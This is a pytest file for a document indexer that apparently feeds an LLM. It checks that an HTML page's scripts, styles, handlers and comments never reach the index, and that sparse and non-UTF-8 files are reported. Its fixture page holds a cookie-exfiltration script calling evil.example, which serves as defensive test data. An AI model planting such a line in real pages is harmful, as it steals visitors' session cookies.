"""Documents nobody vetted, end to end (folder → index → snippets): an HTML page's scripts, styles, event handlers
and comments are never indexed — only the text a reader sees can be found or reach a prompt — and a sparse 500 MB
file beside it is skipped and reported at once, never read whole, while the rest of the folder is indexed."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from llm_fsm.retrieval import FTSRetriever
from llm_fsm.retrieval._index import build_index

PAGE = """<!doctype html>
<html><head>
<title>Refund policy</title>
<style>.refund { background: url(javascript:secretstyle()) }</style>
<script>fetch("https://evil.example/?c=" + document.cookie); var secretscript = 1;</script>
<script type="module">import "secretmodule";</script>
</head>
<body onload="secretonload()">
<!-- secretcomment: internal note -->
<h1 onclick="secretonclick()">Refunds</h1>
<p onmouseover="secrethover()" style="secretinline">Refunds are paid within thirty days.</p>
<a href="javascript:secrethref()">Read more</a>
<img src=x onerror="secretonerror()" alt="secretalt">
<svg><script>secretsvg()</script></svg>
<template><p>secrettemplate</p></template>
</body></html>
"""

HIDDEN = [
    "secretstyle",
    "secretscript",
    "secretmodule",
    "secretonload",
    "secretcomment",
    "secretonclick",
    "secrethover",
    "secretinline",
    "secrethref",
    "secretonerror",
    "secretsvg",
    "secrettemplate",
    "cookie",
    "evil",
]


@pytest.fixture
def index(tmp_path: Path) -> Path:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "refunds.html").write_text(PAGE, encoding="utf-8")
    build_index(docs, tmp_path / "index.db")
    return tmp_path / "index.db"


def test_the_visible_text_of_an_html_page_is_found(index: Path) -> None:
    (snippet,) = FTSRetriever(index).retrieve("thirty days", k=4)
    assert "Refunds are paid within thirty days." in snippet.text
    assert "<" not in snippet.text and "onclick" not in snippet.text


@pytest.mark.parametrize("word", HIDDEN)
def test_nothing_of_a_pages_scripts_styles_handlers_or_comments_can_be_found(index: Path, word: str) -> None:
    assert FTSRetriever(index).retrieve(word, k=4) == []


def test_no_snippet_of_the_page_holds_code_or_markup(index: Path) -> None:
    everything = FTSRetriever(index).retrieve("refunds read more", k=50)
    assert everything
    for snippet in everything:
        assert not any(word in snippet.text for word in HIDDEN), snippet.text


def test_a_sparse_500_mb_file_is_skipped_at_once_and_the_rest_of_the_folder_is_indexed(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "refunds.html").write_text(PAGE, encoding="utf-8")
    with (docs / "dump.md").open("wb") as sparse:  # 500 MB on paper, no disk used: reading it whole would take long
        sparse.truncate(500 * 1024 * 1024)
    started = time.monotonic()
    report = build_index(docs, tmp_path / "index.db")
    assert time.monotonic() - started < 5
    assert report.added == ["refunds.html"]
    assert [problem.path for problem in report.problems] == ["dump.md"]
    assert FTSRetriever(tmp_path / "index.db").retrieve("thirty days", k=4)


def test_a_document_that_is_not_utf8_gives_snippets_of_valid_text_and_is_reported(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "latin.md").write_bytes(
        "# Caf\xe9\nThe caf\xe9 opens at nine.\n".encode("latin-1") + b"\xff\xfe\xed\xa0\x80"
    )
    report = build_index(docs, tmp_path / "index.db")
    assert [problem.path for problem in report.problems] == ["latin.md"]
    (snippet,) = FTSRetriever(tmp_path / "index.db").retrieve("opens at nine", k=4)
    assert "\ufffd" in snippet.text
    snippet.text.encode("utf-8")  # no lone surrogate: a store and the prompt take it as it is
    snippet.source.encode("utf-8")
